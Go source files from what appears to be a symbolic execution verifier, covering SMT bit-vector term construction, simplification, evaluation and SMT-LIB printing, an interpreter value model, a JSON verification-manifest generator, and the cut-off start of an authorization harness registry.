				panic(fmt.Sprintf("UF arg sort mismatch %s arg %d: %d vs %d", name, i, sig.argw[i], a.w))
			}
		}
	}
	return ts.intern(&Term{op: TUF, w: resw, name: name, args: args})
}

// ---- boolean connectives

func (ts *TermStore) Not(a *Term) *Term {
	if a.w != 0 {
		panic("Not on non-bool")
	}
	if a.IsConst() {
		return ts.Bool(a.val == 0)
	}
	if a.op == TNot {
		return a.args[0]
	}
	return ts.intern(&Term{op: TNot, args: []*Term{a}})
}

func (ts *TermStore) And(xs ...*Term) *Term {
	var out []*Term
	seen := map[int]bool{}
	for _, x := range xs {
		if x.w != 0 {
			panic("And on non-bool")
		}
		if x.IsConst() {
			if x.val == 0 {
				return ts.False
			}
			continue
		}
		if x.op == TAnd {
			for _, y := range x.args {
				if !seen[y.id] {
					seen[y.id] = true
					out = append(out, y)
				}
			}
			continue
		}
		if !seen[x.id] {
			seen[x.id] = true
			out = append(out, x)
		}
	}
	for _, x := range out {
		if x.op == TNot && seen[x.args[0].id] {
			return ts.False
		}
	}
	if len(out) == 0 {
		return ts.True
	}
	if len(out) == 1 {
		return out[0]
	}
	return ts.intern(&Term{op: TAnd, args: out})
}

func (ts *TermStore) Or(xs ...*Term) *Term {
	var out []*Term
	seen := map[int]bool{}
	for _, x := range xs {
		if x.w != 0 {
			panic("Or on non-bool")
		}
		if x.IsConst() {
			if x.val != 0 {
				return ts.True
			}
			continue
		}
		if x.op == TOr {
			for _, y := range x.args {
				if !seen[y.id] {
					seen[y.id] = true
					out = append(out, y)
				}
			}
			continue
		}
		if !seen[x.id] {
			seen[x.id] = true
			out = append(out, x)
		}
	}
	for _, x := range out {
		if x.op == TNot && seen[x.args[0].id] {
			return ts.True
		}
	}
	if len(out) == 0 {
		return ts.False
	}
	if len(out) == 1 {
		return out[0]
	}
	return ts.intern(&Term{op: TOr, args: out})
}

func (ts *TermStore) Ite(c, a, b *Term) *Term {
	if c.w != 0 || a.w != b.w {
		panic(fmt.Sprintf("Ite sorts: c.w=%d a.w=%d b.w=%d", c.w, a.w, b.w))
	}
	if c.IsConst() {
		if c.val != 0 {
			return a
		}
		return b
	}
	if a == b {
		return a
	}
	if a.w == 0 {
		if a.IsConst() && b.IsConst() {
			if a.val != 0 {
				return c
			}
			return ts.Not(c)
		}
		if a.IsConst() {
			if a.val != 0 {
				return ts.Or(c, b)
			}
			return ts.And(ts.Not(c), b)
		}
		if b.IsConst() {
			if b.val != 0 {
				return ts.Or(ts.Not(c), a)
			}
			return ts.And(c, a)
		}
	}
	if c.op == TNot {
		return ts.Ite(c.args[0], b, a)
	}
	return ts.intern(&Term{op: TIte, w: a.w, args: []*Term{c, a, b}})
}

func (ts *TermStore) Eq(a, b *Term) *Term {
	if a.w != b.w {
		panic(fmt.Sprintf("Eq sorts %d vs %d", a.w, b.w))
	}
	if a == b {
		return ts.True
	}
	if a.IsConst() && b.IsConst() {
		return ts.False // distinct interned constants
	}
	if a.w == 0 {
		if a.IsConst() {
			if a.val != 0 {
				return b
			}
			return ts.Not(b)
		}
		if b.IsConst() {
			if b.val != 0 {
				return a
			}
			return ts.Not(a)
		}
	}
	// eq(ite(c,k1,k2), k) with constants
	if b.IsConst() && a.op == TIte && a.args[1].IsConst() && a.args[2].IsConst() {
		return ts.Ite(a.args[0], ts.Eq(a.args[1], b), ts.Eq(a.args[2], b))
	}
	if a.IsConst() && b.op == TIte && b.args[1].IsConst() && b.args[2].IsConst() {
		return ts.Ite(b.args[0], ts.Eq(b.args[1], a), ts.Eq(b.args[2], a))
	}
	if a.id > b.id {
		a, b = b, a
	}
	return ts.intern(&Term{op: TEq, args: []*Term{a, b}})
}

// ---- bit-vector operations

func (ts *TermStore) Bin(op TOp, a, b *Term) *Term {
	if a.w != b.w || a.w == 0 {
		panic(fmt.Sprintf("Bin %v sorts %d %d", topNames[op], a.w, b.w))
	}
	w := a.w
	if a.IsConst() && b.IsConst() && w <= 64 {
		if r, ok := foldBin(op, a.val, b.val, w); ok {
			return ts.Const(r, w)
		}
	}
	if a.IsConst() && b.IsConst() && w > 64 {
		x, y := ts.bigOf(a), ts.bigOf(b)
		switch op {
		case TAdd:
			return ts.BigConst(new(big.Int).Add(x, y), w)
		case TSub:
			return ts.BigConst(fromSigned(new(big.Int).Sub(x, y), w), w)
		case TMul:
			return ts.BigConst(new(big.Int).Mul(x, y), w)
		}
	}
	if w <= 64 {
		// identities
		switch op {
		case TAdd:
			if a.IsConst() && a.val == 0 {
				return b
			}
			if b.IsConst() && b.val == 0 {
				return a
			}
		case TSub:
			if b.IsConst() && b.val == 0 {
				return a
			}
			if a == b {
				return ts.Const(0, w)
			}
		case TBAnd:
			if a == b {
				return a
			}
			if a.IsConst() && a.val == 0 || b.IsConst() && b.val == 0 {
				return ts.Const(0, w)
			}
			if a.IsConst() && a.val == mask(w) {
				return b
			}
			if b.IsConst() && b.val == mask(w) {
				return a
			}
		case TBOr:
			if a == b {
				return a
			}
			if a.IsConst() && a.val == 0 {
				return b
			}
			if b.IsConst() && b.val == 0 {
				return a
			}
			// or of disjoint zero-extended/shifted pieces is left to the solver
		case TBXor:
			if a == b {
				return ts.Const(0, w)
			}
			if a.IsConst() && a.val == 0 {
				return b
			}
			if b.IsConst() && b.val == 0 {
				return a
			}
		case TShl, TLShr, TAShr:
			if b.IsConst() && b.val == 0 {
				return a
			}
			if b.IsConst() && int(b.val) < w && (op == TLShr) {
				// lshr by constant: zero_extend(extract)
				k := int(b.val)
				return ts.Zext(ts.Extract(a, w-1, k), k)
			}
			if b.IsConst() && int(b.val) < w && op == TShl {
				k := int(b.val)
				return ts.Concat(ts.Extract(a, w-1-k, 0), ts.Const(0, k))
			}
		case TMul:
			if a.IsConst() && a.val == 1 {
				return b
			}
			if b.IsConst() && b.val == 1 {
				return a
			}
			if a.IsConst() && a.val == 0 || b.IsConst() && b.val == 0 {
				return ts.Const(0, w)
			}
		}
	}
	switch op {
	case TAdd, TMul, TBAnd, TBOr, TBXor:
		if a.id > b.id {
			a, b = b, a
		}
	}
	return ts.intern(&Term{op: op, w: w, args: []*Term{a, b}})
}

func foldBin(op TOp, x, y uint64, w int) (uint64, bool) {
	m := mask(w)
	sx, sy := sext64(x, w), sext64(y, w)
	switch op {
	case TAdd:
		return (x + y) & m, true
	case TSub:
		return (x - y) & m, true
	case TMul:
		return (x * y) & m, true
	case TUDiv:
		if y == 0 {
			return m, true
		}
		return x / y, true
	case TURem:
		if y == 0 {
			return x, true
		}
		return x % y, true
	case TSDiv:
		if y == 0 {
			if sx >= 0 {
				return m, true
			}
			return 1, true
		}
		if sy == -1 {
			return uint64(-sx) & m, true
		}
		return uint64(sx/sy) & m, true
	case TSRem:
		if y == 0 {
			return x, true
		}
		if sy == -1 {
			return 0, true
		}
		return uint64(sx%sy) & m, true
	case TBAnd:
		return x & y, true
	case TBOr:
		return x | y, true
	case TBXor:
		return x ^ y, true
	case TShl:
		if y >= uint64(w) {
			return 0, true
		}
		return (x << y) & m, true
	case TLShr:
		if y >= uint64(w) {
			return 0, true
		}
		return x >> y, true
	case TAShr:
		if y >= uint64(w) {
			if sx < 0 {
				return m, true
			}
			return 0, true
		}
		return uint64(sx>>y) & m, true
	}
	return 0, false
}

func (ts *TermStore) Cmp(op TOp, a, b *Term) *Term {
	if a.w != b.w || a.w == 0 {
		panic("Cmp sorts")
	}
	if a.IsConst() && b.IsConst() && a.w <= 64 {
		x, y := a.val, b.val
		sx, sy := sext64(x, a.w), sext64(y, a.w)
		switch op {
		case TULt:
			return ts.Bool(x < y)
		case TULe:
			return ts.Bool(x <= y)
		case TSLt:
			return ts.Bool(sx < sy)
		case TSLe:
			return ts.Bool(sx <= sy)
		}
	}
	if a == b {
		return ts.Bool(op == TULe || op == TSLe)
	}
	return ts.intern(&Term{op: op, w: 0, args: []*Term{a, b}})
}

func (ts *TermStore) Un(op TOp, a *Term) *Term {
	if a.IsConst() && a.w <= 64 {
		switch op {
		case TNeg:
			return ts.Const(-a.val, a.w)
		case TBNot:
			return ts.Const(^a.val, a.w)
		}
	}
	if a.op == op {
		return a.args[0]
	}
	return ts.intern(&Term{op: op, w: a.w, args: []*Term{a}})
}

func (ts *TermStore) bigOf(t *Term) *big.Int {
	if t.big != nil {
		return t.big
	}
	return new(big.Int).SetUint64(t.val)
}

func (ts *TermStore) Extract(a *Term, hi, lo int) *Term {
	if hi < lo || hi >= a.w || lo < 0 {
		panic(fmt.Sprintf("Extract [%d:%d] of width %d", hi, lo, a.w))
	}
	w := hi - lo + 1
	if w == a.w {
		return a
	}
	if a.IsConst() {
		v := new(big.Int).Rsh(ts.bigOf(a), uint(lo))
		return ts.BigConst(v, w)
	}
	switch a.op {
	case TExtract:
		return ts.Extract(a.args[0], a.p2+hi, a.p2+lo)
	case TConcat:
		// locate the component(s)
		pos := a.w
		for _, c := range a.args {
			chi := pos - 1
			clo := pos - c.w
			if hi <= chi && lo >= clo {
				return ts.Extract(c, hi-clo, lo-clo)
			}
			pos = clo
		}
		// spans several components: rebuild
		var parts []*Term
		pos = a.w
		for _, c := range a.args {
			chi := pos - 1
			clo := pos - c.w
			pos = clo
			if chi < lo || clo > hi {
				continue
			}
			h := chi
			if hi < h {
				h = hi
			}
			l := clo
			if lo > l {
				l = lo
			}
			parts = append(parts, ts.Extract(c, h-clo, l-clo))
		}
		return ts.Concat(parts...)
	case TZext:
		inner := a.args[0]
		if hi < inner.w {
			return ts.Extract(inner, hi, lo)
		}
		if lo >= inner.w {
			return ts.Const(0, w)
		}
		return ts.Zext(ts.Extract(inner, inner.w-1, lo), hi-inner.w+1)
	case TSext:
		inner := a.args[0]
		if hi < inner.w {
			return ts.Extract(inner, hi, lo)
		}
	case TIte:
		if a.args[1].IsConst() || a.args[2].IsConst() {
			return ts.Ite(a.args[0], ts.Extract(a.args[1], hi, lo), ts.Extract(a.args[2], hi, lo))
		}
	case TBAnd, TBOr, TBXor:
		return ts.Bin(a.op, ts.Extract(a.args[0], hi, lo), ts.Extract(a.args[1], hi, lo))
	case TAdd, TSub, TMul:
		// the low bits of a sum/difference/product depend only on the low bits of the operands
		if lo == 0 {
			return ts.Bin(a.op, ts.Extract(a.args[0], hi, 0), ts.Extract(a.args[1], hi, 0))
		}
	}
	return ts.intern(&Term{op: TExtract, w: w, args: []*Term{a}, p1: hi, p2: lo})
}

func (ts *TermStore) Concat(xs ...*Term) *Term {
	// flatten
	var flat []*Term
	for _, x := range xs {
		if x.w == 0 {
			panic("Concat of bool")
		}
		if x.op == TConcat {
			flat = append(flat, x.args...)
		} else {
			flat = append(flat, x)
		}
	}
	// merge adjacent constants and adjacent extracts of the same term
	var out []*Term
	for _, x := range flat {
		if n := len(out); n > 0 {
			p := out[n-1]
			if p.IsConst() && x.IsConst() {
				v := new(big.Int).Lsh(ts.bigOf(p), uint(x.w))
				v.Or(v, ts.bigOf(x))
				out[n-1] = ts.BigConst(v, p.w+x.w)
				continue
			}
			if p.op == TExtract && x.op == TExtract && p.args[0] == x.args[0] && p.p2 == x.p1+1 {
				out[n-1] = ts.Extract(p.args[0], p.p1, x.p2)
				continue
			}
			// whole term followed by ... no
		}
		out = append(out, x)
	}
	if len(out) == 1 {
		return out[0]
	}
	w := 0
	for _, x := range out {
		w += x.w
	}
	return ts.intern(&Term{op: TConcat, w: w, args: out})
}

func (ts *TermStore) Zext(a *Term, extra int) *Term {
	if extra == 0 {
		return a
	}
	if a.IsConst() {
		return ts.BigConst(ts.bigOf(a), a.w+extra)
	}
	if a.op == TZext {
		return ts.Zext(a.args[0], a.p1+extra)
	}
	return ts.intern(&Term{op: TZext, w: a.w + extra, args: []*Term{a}, p1: extra})
}

func (ts *TermStore) Sext(a *Term, extra int) *Term {
	if extra == 0 {
		return a
	}
	if a.IsConst() {
		v := ts.bigOf(a)
		if v.Bit(a.w-1) == 1 {
			// negative: set upper bits
			m := new(big.Int).Lsh(big.NewInt(1), uint(a.w+extra))
			hi := new(big.Int).Lsh(big.NewInt(1), uint(a.w))
			m.Sub(m, hi)
			v = new(big.Int).Or(v, m)
		}
		return ts.BigConst(v, a.w+extra)
	}
	if a.op == TSext {
		return ts.Sext(a.args[0], a.p1+extra)
	}
	return ts.intern(&Term{op: TSext, w: a.w + extra, args: []*Term{a}, p1: extra})
}

// ---- evaluation under a model (vars by name). UF terms are not evaluable.

type Model map[string]*big.Int

type evalErr struct{ msg string }

func (ts *TermStore) Eval(t *Term, m Model, memo map[int]*big.Int) (res *big.Int, ok bool) {
	if t.hasUF {
		return nil, false
	}
	defer func() {
		if r := recover(); r != nil {
			if _, is := r.(evalErr); is {
				res, ok = nil, false
				return
			}
			panic(r)
		}
	}()
	return ts.eval(t, m, memo), true
}

var bigOne = big.NewInt(1)

func bmask(w int) *big.Int {
	m := new(big.Int).Lsh(bigOne, uint(w))
	return m.Sub(m, bigOne)
}

func toSigned(v *big.Int, w int) *big.Int {
	if v.Bit(w-1) == 1 {
		return new(big.Int).Sub(v, new(big.Int).Lsh(bigOne, uint(w)))
	}
	return v
}

func fromSigned(v *big.Int, w int) *big.Int {
	return new(big.Int).And(v, bmask(w)) // big.Int And on negative uses two's complement
}

func (ts *TermStore) eval(t *Term, m Model, memo map[int]*big.Int) *big.Int {
	if v, ok := memo[t.id]; ok {
		return v
	}
	var r *big.Int
	b2i := func(b bool) *big.Int {
		if b {
			return big.NewInt(1)
		}
		return big.NewInt(0)
	}
	arg := func(i int) *big.Int { return ts.eval(t.args[i], m, memo) }
	switch t.op {
	case TConst:
		r = ts.bigOf(t)
	case TVar:
		v, ok := m[t.name]
		if !ok {
			v = big.NewInt(0)
		}
		r = v
	case TNot:
		r = b2i(arg(0).Sign() == 0)
	case TAnd:
		r = big.NewInt(1)
		for i := range t.args {
			if arg(i).Sign() == 0 {
				r = big.NewInt(0)
				break
			}
		}
	case TOr:
		r = big.NewInt(0)
		for i := range t.args {
			if arg(i).Sign() != 0 {
				r = big.NewInt(1)
				break
			}
		}
	case TIte:
		if arg(0).Sign() != 0 {
			r = arg(1)
		} else {
			r = arg(2)
		}
	case TEq:
		r = b2i(arg(0).Cmp(arg(1)) == 0)
	case TAdd:
		r = new(big.Int).Add(arg(0), arg(1))
		r.And(r, bmask(t.w))
	case TSub:
		r = fromSigned(new(big.Int).Sub(arg(0), arg(1)), t.w)
	case TMul:
		r = new(big.Int).Mul(arg(0), arg(1))
		r.And(r, bmask(t.w))
	case TUDiv:
		if arg(1).Sign() == 0 {
			r = bmask(t.w)
		} else {
			r = new(big.Int).Quo(arg(0), arg(1))
		}
	case TURem:
		if arg(1).Sign() == 0 {
			r = arg(0)
		} else {
			r = new(big.Int).Rem(arg(0), arg(1))
		}
	case TSDiv:
		x, y := toSigned(arg(0), t.w), toSigned(arg(1), t.w)
		if y.Sign() == 0 {
			if x.Sign() >= 0 {
				r = bmask(t.w)
			} else {
				r = big.NewInt(1)
			}
		} else {
			r = fromSigned(new(big.Int).Quo(x, y), t.w)
		}
	case TSRem:
		x, y := toSigned(arg(0), t.w), toSigned(arg(1), t.w)
		if y.Sign() == 0 {
			r = arg(0)
		} else {
			r = fromSigned(new(big.Int).Rem(x, y), t.w)
		}
	case TBAnd:
		r = new(big.Int).And(arg(0), arg(1))
	case TBOr:
		r = new(big.Int).Or(arg(0), arg(1))
	case TBXor:
		r = new(big.Int).Xor(arg(0), arg(1))
	case TShl:
		if arg(1).Cmp(big.NewInt(int64(t.w))) >= 0 {
			r = big.NewInt(0)
		} else {
			r = new(big.Int).Lsh(arg(0), uint(arg(1).Uint64()))
			r.And(r, bmask(t.w))
		}
	case TLShr:
		if arg(1).Cmp(big.NewInt(int64(t.w))) >= 0 {
			r = big.NewInt(0)
		} else {
			r = new(big.Int).Rsh(arg(0), uint(arg(1).Uint64()))
		}
	case TAShr:
		x := toSigned(arg(0), t.w)
		sh := uint(t.w)
		if arg(1).Cmp(big.NewInt(int64(t.w))) < 0 {
			sh = uint(arg(1).Uint64())
		}
		r = fromSigned(new(big.Int).Rsh(x, sh), t.w)
	case TNeg:
		r = fromSigned(new(big.Int).Neg(arg(0)), t.w)
	case TBNot:
		r = new(big.Int).Xor(arg(0), bmask(t.w))
	case TULt:
		r = b2i(arg(0).Cmp(arg(1)) < 0)
	case TULe:
		r = b2i(arg(0).Cmp(arg(1)) <= 0)
	case TSLt:
		w := t.args[0].w
		r = b2i(toSigned(arg(0), w).Cmp(toSigned(arg(1), w)) < 0)
	case TSLe:
		w := t.args[0].w
		r = b2i(toSigned(arg(0), w).Cmp(toSigned(arg(1), w)) <= 0)
	case TExtract:
		r = new(big.Int).Rsh(arg(0), uint(t.p2))
		r.And(r, bmask(t.w))
	case TConcat:
		r = big.NewInt(0)
		for i, a := range t.args {
			r = new(big.Int).Lsh(r, uint(a.w))
			r.Or(r, arg(i))
		}
	case TZext:
		r = arg(0)
	case TSext:
		w := t.args[0].w
		r = fromSigned(toSigned(arg(0), w), t.w)
	default:
		panic(evalErr{"cannot evaluate op"})
	}
	memo[t.id] = r
	return r
}

// ---- SMT-LIB printing

func sortStr(w int) string {
	if w == 0 {
		return "Bool"
	}
	return fmt.Sprintf("(_ BitVec %d)", w)
}

func (t *Term) constStr() string {
	if t.w == 0 {
		if t.val != 0 {
			return "true"
		}
		return "false"
	}
	if t.big != nil {
		if t.w%4 == 0 {
			s := t.big.Text(16)
			return "#x" + strings.Repeat("0", t.w/4-len(s)) + s
		}
		return fmt.Sprintf("(_ bv%s %d)", t.big.String(), t.w)
	}
	if t.w%4 == 0 {
		return fmt.Sprintf("#x%0*x", t.w/4, t.val)
	}
	return fmt.Sprintf("(_ bv%d %d)", t.val, t.w)
}

func smtName(t *Term) string {
	switch t.op {
	case TConst:
		return t.constStr()
	case TVar:
		return "|" + t.name + "|"
	}
	return fmt.Sprintf("t%d", t.id)
}

// body prints the defining expression of t with arguments referenced by name.
func (t *Term) body() string {
	var sb strings.Builder
	switch t.op {
	case TConst, TVar:
		return smtName(t)
	case TExtract:
		fmt.Fprintf(&sb, "((_ extract %d %d) %s)", t.p1, t.p2, smtName(t.args[0]))
		return sb.String()
	case TZext:
		fmt.Fprintf(&sb, "((_ zero_extend %d) %s)", t.p1, smtName(t.args[0]))
		return sb.String()
	case TSext:
		fmt.Fprintf(&sb, "((_ sign_extend %d) %s)", t.p1, smtName(t.args[0]))
		return sb.String()
	case TUF:
		if len(t.args) == 0 {
			return "|" + t.name + "|"
		}
		sb.WriteString("(|" + t.name + "|")
	default:
		sb.WriteString("(" + topNames[t.op])
	}
	for _, a := range t.args {
		sb.WriteByte(' ')
		sb.WriteString(smtName(a))
	}
	sb.WriteByte(')')
	return sb.String()
}

func (t *Term) smtInline(depth int) string {
	if t.op == TConst || t.op == TVar {
		return smtName(t)
	}
	if depth == 0 {
		return "…"
	}
	var sb strings.Builder
	switch t.op {
	case TExtract:
		return fmt.Sprintf("((_ extract %d %d) %s)", t.p1, t.p2, t.args[0].smtInline(depth-1))
	case TZext:
		return fmt.Sprintf("((_ zero_extend %d) %s)", t.p1, t.args[0].smtInline(depth-1))
	case TSext:
		return fmt.Sprintf("((_ sign_extend %d) %s)", t.p1, t.args[0].smtInline(depth-1))
	case TUF:
		sb.WriteString("(" + t.name)
	default:
		sb.WriteString("(" + topNames[t.op])
	}
	for _, a := range t.args {
		sb.WriteByte(' ')
		sb.WriteString(a.smtInline(depth - 1))
	}
	sb.WriteByte(')')
	return sb.String()
}
