package main

// Value representation of the symbolic interpreter.
//
//   bool            : bool | *Term (w==0)
//   integers        : uint64 (bits, masked to the type's width) | *Term (w==width)
//   float           : float64 (concrete only)
//   complex         : unsupported
//   string          : string | *SymStr
//   pointer         : *Pointer (nil pointer == (*Pointer)(nil))
//   slice           : Slice
//   array           : *Array? no: Array values are []Value wrapped in ArrayV (by value => copied)
//   struct          : StructV (by value => copied)
//   map             : *MapV (nil allowed)
//   chan            : *ChanV (nil allowed)
//   func            : *ssa.Function | *ssa.Builtin | *Closure | *NativeFunc | nil(FuncNil)
//   interface       : Iface (T==nil means nil interface)
//   tuple           : Tuple

import (
	"fmt"
	"go/types"

	"golang.org/x/tools/go/ssa"
)

type Value interface{}

// Object is one allocation; v holds its (possibly aggregate) content.
type Object struct {
	id   int
	v    Value
	tag  interface{} // e.g. *ProtoTag for ideal-codec byte buffers
	desc string
}

// Pointer designates a location: an object plus a path of field/element indexes into its content.
type Pointer struct {
	obj  *Object
	path []int
}

type StructV struct {
	f []Value
}

type ArrayV struct {
	e []Value
}

// Slice: base points to an ArrayV; nil base is the nil slice.
type Slice struct {
	base *Pointer
	off  int
	len  int
	cap  int
}

type SymStr struct {
	b      []Value // each: uint64 (byte) or *Term (w=8)
	opaque bool
	tmpl   *strTemplate // opaque string with known skeleton (see tmplstr.go)
}

type Iface struct {
	T types.Type // dynamic type, nil for nil interface
	V Value
}

type Tuple []Value

type Closure struct {
	Fn  *ssa.Function
	Env []Value
}

type NativeFunc struct {
	name string
	fn   func(th *Thread, args []Value) Value
}

type BoundMethod struct {
	recv Value
	fn   *ssa.Function
}

type mapEntry struct {
	k Value
	v Value
}

type MapV struct {
	kt, vt  types.Type
	entries []*mapEntry
	id      int
}

type FuncNil struct{}

func isConcreteBool(v Value) (bool, bool) {
	b, ok := v.(bool)
	return b, ok
}

// ---- type helpers

func underlying(t types.Type) types.Type {
	return t.Underlying()
}

func intWidth(t types.Type) (w int, signed bool, ok bool) {
	b, isb := t.Underlying().(*types.Basic)
	if !isb {
		return 0, false, false
	}
	switch b.Kind() {
	case types.Int8:
		return 8, true, true
	case types.Int16:
		return 16, true, true
	case types.Int32, types.UntypedRune:
		return 32, true, true
	case types.Int64, types.Int, types.UntypedInt:
		return 64, true, true
	case types.Uint8:
		return 8, false, true
	case types.Uint16:
		return 16, false, true
	case types.Uint32:
		return 32, false, true
	case types.Uint64, types.Uint, types.Uintptr:
		return 64, false, true
	}
	return 0, false, false
}

func isBoolType(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsBoolean != 0
}

func isStringType(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

func isFloatType(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsFloat != 0
}

func isInterface(t types.Type) bool {
	_, ok := t.Underlying().(*types.Interface)
	return ok
}

// zero returns the zero value of type t.
func zero(t types.Type) Value {
	switch t := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case t.Kind() == types.UnsafePointer:
			return (*Pointer)(nil)
		case t.Kind() == types.UntypedNil:
			return nil
		case t.Info()&types.IsBoolean != 0:
			return false
		case t.Info()&types.IsInteger != 0:
			return uint64(0)
		case t.Info()&types.IsFloat != 0:
			return float64(0)
		case t.Info()&types.IsString != 0:
			return ""
		case t.Info()&types.IsComplex != 0:
			return complex128(0)
		}
	case *types.Pointer:
		return (*Pointer)(nil)
	case *types.Slice:
		return Slice{}
	case *types.Array:
		a := ArrayV{e: make([]Value, t.Len())}
		for i := range a.e {
			a.e[i] = zero(t.Elem())
		}
		return a
	case *types.Struct:
		s := StructV{f: make([]Value, t.NumFields())}
		for i := range s.f {
			s.f[i] = zero(t.Field(i).Type())
		}
		return s
	case *types.Map:
		return (*MapV)(nil)
	case *types.Chan:
		return (*ChanV)(nil)
	case *types.Signature:
		return FuncNil{}
	case *types.Interface:
		return Iface{}
	case *types.Tuple:
		tp := make(Tuple, t.Len())
		for i := range tp {
			tp[i] = zero(t.At(i).Type())
		}
		return tp
	}
	panic(fmt.Sprintf("zero: unsupported type %v", t))
}

// copyVal makes a by-value copy (structs and arrays are value types).
func copyVal(v Value) Value {
	switch v := v.(type) {
	case StructV:
		n := StructV{f: make([]Value, len(v.f))}
		for i, x := range v.f {
			n.f[i] = copyVal(x)
		}
		return n
	case ArrayV:
		n := ArrayV{e: make([]Value, len(v.e))}
		for i, x := range v.e {
			n.e[i] = copyVal(x)
		}
		return n
	case Tuple:
		n := make(Tuple, len(v))
		for i, x := range v {
			n[i] = copyVal(x)
		}
		return n
	}
	return v
}

// ---- pointers: load/store through a path

func (p *Pointer) raw() Value {
	v := p.obj.v
	for _, i := range p.path {
		switch a := v.(type) {
		case StructV:
			v = a.f[i]
		case ArrayV:
			v = a.e[i]
		default:
			panic(fmt.Sprintf("pointer path through %T", v))
		}
	}
	return v
}

func (p *Pointer) load() Value { return copyVal(p.raw()) }

func (p *Pointer) store(nv Value) {
	nv = copyVal(nv)
	if len(p.path) == 0 {
		p.obj.v = nv
		return
	}
	v := p.obj.v
	for k, i := range p.path {
		last := k == len(p.path)-1
		switch a := v.(type) {
		case StructV:
			if last {
				a.f[i] = nv
				return
			}
			v = a.f[i]
		case ArrayV:
			if last {
				a.e[i] = nv
				return
			}
			v = a.e[i]
		default:
			panic(fmt.Sprintf("pointer path through %T", v))
		}
	}
}

func (p *Pointer) sub(i int) *Pointer {
	np := &Pointer{obj: p.obj, path: make([]int, len(p.path)+1)}
	copy(np.path, p.path)
	np.path[len(p.path)] = i
	return np
}

func ptrEqual(a, b *Pointer) bool {
	if a == nil || b == nil {
		return a == nil && b == nil
	}
	if a.obj != b.obj || len(a.path) != len(b.path) {
		return false
	}
	for i := range a.path {
		if a.path[i] != b.path[i] {
			return false
		}
	}
	return true
}

// elems returns the element storage of the slice's backing array.
func (s Slice) elems() []Value {
	return s.base.raw().(ArrayV).e
}

func (s Slice) at(i int) Value { return s.elems()[s.off+i] }

// ---- strings

func strLen(v Value) int {
	switch s := v.(type) {
	case string:
		return len(s)
	case *SymStr:
		if s.opaque {
			panic(abortPath{"len of opaque string"})
		}
		return len(s.b)
	}
	panic(fmt.Sprintf("strLen of %T", v))
}

func strBytes(v Value) []Value {
	switch s := v.(type) {
	case string:
		b := make([]Value, len(s))
		for i := 0; i < len(s); i++ {
			b[i] = uint64(s[i])
		}
		return b
	case *SymStr:
		if s.opaque {
			panic(abortPath{"bytes of opaque string"})
		}
		return s.b
	}
	panic(fmt.Sprintf("strBytes of %T", v))
}

// mkStr builds a string value from bytes, concrete when all bytes are concrete.
func mkStr(b []Value) Value {
	conc := true
	for _, x := range b {
		if _, ok := x.(uint64); !ok {
			conc = false
			break
		}
	}
	if conc {
		bs := make([]byte, len(b))
		for i, x := range b {
			bs[i] = byte(x.(uint64))
		}
		return string(bs)
	}
	nb := make([]Value, len(b))
	copy(nb, b)
	return &SymStr{b: nb}
}

func isOpaque(v Value) bool {
	s, ok := v.(*SymStr)
	return ok && s.opaque
}

var opaqueStr = &SymStr{opaque: true}

type typeKey struct{ s string }

// typeString gives a canonical string for a type (used for dynamic type identity hashing).
func typeString(t types.Type) string {
	return types.TypeString(t, nil)
}
