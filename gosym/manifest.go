package main

import (
	"encoding/json"
	"fmt"
	"os"
)

type naEntry struct {
	Prop   string
	Reason string
}

func manifestMain() int {
	var cs []map[string]interface{}
	claimed := map[string]bool{}
	for _, c := range checks {
		if c.Disabled {
			continue
		}
		claimed[c.Prop] = true
		cs = append(cs, map[string]interface{}{
			"property_id":         c.Prop,
			"quick_cmd":           "./gosym/gosym check " + c.Prop + " -tier quick",
			"thorough_cmd":        "./gosym/gosym check " + c.Prop + " -tier thorough",
			"evidence_file":       "/verif/evidence/" + c.Prop + ".json",
			"replay_cmd_template": "./gosym/gosym replay {path}",
			"engine":              "gosym",
			"technique":           "bounded symbolic execution of the real Go code over go/ssa, SMT-decided (z3 5.1 / cvc5), counterexamples replayed natively",
			"level_claimed": map[string]interface{}{
				"category":   "model_checking",
				"text":       c.LevelText,
				"design_ref": c.DesignRef,
			},
			"level_note": c.LevelNote,
		})
	}
	var na []map[string]interface{}
	for _, n := range notApplicable {
		if claimed[n.Prop] {
			continue
		}
		na = append(na, map[string]interface{}{"property_id": n.Prop, "reason": n.Reason})
	}
	m := map[string]interface{}{
		"version":   1,
		"setup_cmd": "cd /verif/gosym && env GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go build -o gosym . && env GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -count=1 . 2>&1 | tail -5",
		"hooks": map[string]interface{}{
			"guard":            "verif",
			"enable":           "none needed: harnesses are injected at load/test time through go/packages Overlay and `go test -overlay`; no file of /repo carries instrumentation",
			"baseline_off_cmd": "cd /repo && env GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off go test -vet=off -count=1 ./...",
			"source_commits":   []string{},
			"add_only":         true,
		},
		"engines": []map[string]interface{}{{
			"name": "gosym", "path": "/verif/gosym",
			"serves_properties": keysOf(claimed),
			"kind_free_text":    "forking symbolic interpreter for go/ssa with SMT-LIB2 back ends (z3 5.1.0 incremental, cvc5 for wide bit-vector + UF queries), native replay through go test -overlay",
		}},
		"checks":         cs,
		"not_applicable": na,
		"notes":          "exit 0: property held on everything explored (KNOWN-FINDING / INCONCLUSIVE lines possible); exit 1: replay-confirmed violation; exit 2: check cannot run (harness does not load, vacuity, engine/model mismatch)",
	}
	b, _ := json.MarshalIndent(m, "", " ")
	fmt.Println(string(b))
	_ = os.Stdout
	return 0
}

func keysOf(m map[string]bool) []string {
	var ks []string
	for _, c := range checks {
		if m[c.Prop] {
			ks = append(ks, c.Prop)
		}
	}
	return ks
}
