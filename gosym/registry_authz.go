package main

// scenario parameter sets for the authz harness family: which component varies over all templates (2/3),
// is fixed to the simplest template (1) or is absent (0)
func sc(kv ...interface{}) map[string]int {
	m := map[string]int{"authFacts": 1, "authRule": 0, "authCheck": 0, "blocks": 0, "blkFacts": 0, "blkRule": 0, "blkCheck": 0,
		"azFacts": 0, "azRule": 0, "azCheck": 0, "policies": 1, "polMode": 1}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1].(int)
